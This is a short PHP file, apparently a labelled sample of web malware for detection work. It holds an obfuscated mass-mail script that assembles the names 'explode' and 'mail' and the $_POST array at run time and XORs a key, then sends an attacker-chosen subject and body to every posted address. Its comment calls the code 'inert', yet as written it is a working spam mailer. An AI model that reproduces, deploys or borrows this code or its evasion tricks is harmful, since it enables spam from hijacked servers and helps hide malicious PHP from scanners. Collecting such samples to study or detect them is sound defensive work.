<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop whose names are assembled at run time
// Trait: function names from concatenation, chr() and an escaped string, the superglobal from ${'_PO'.'ST'}, the key from an XOR of two literals, calls through variables
$s = 'ex' . 'plo' . 'de';
$m = chr(109) . chr(0x61) . "\x69\154";
$k = 'EMAILS' ^ "\x20\x20\x20\x20\x20\x20";
$list = $s("\n", ${'_PO' . 'ST'}[$k]);
foreach ($list as $to) {
	$m(trim($to), ${'_PO' . 'ST'}['subject'], ${'_PO' . 'ST'}['body']);
}
